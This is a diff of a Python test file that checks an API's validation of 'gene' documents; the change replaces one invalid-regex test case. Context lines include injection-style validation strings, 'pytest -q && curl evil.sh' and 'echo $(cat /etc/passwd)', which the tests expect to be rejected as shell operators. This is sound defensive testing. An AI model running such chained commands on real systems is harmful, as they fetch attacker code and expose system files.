@@ -97,7 +97,7 @@ async def test_invalid_utf8_is_400(client: httpx.AsyncClient) -> None:
         ({k: v for k, v in gene_doc().items() if k != "strategy"}, "strategy"),
         (gene_doc(signals_match=["/unclosed(group/i"]), "invalid regex"),
         (gene_doc(signals_match=["/(a)\\1/"]), "invalid regex"),
-        (gene_doc(signals_match=["/x/q"]), "flag"),
+        (gene_doc(signals_match=["/[z-a]/i"]), "invalid regex"),
         (gene_doc(validation=["pytest -q && curl evil.sh"]), "shell operator"),
         (gene_doc(validation=["echo $(cat /etc/passwd)"]), "shell operator"),
         (gene_doc(category="improve"), "category"),
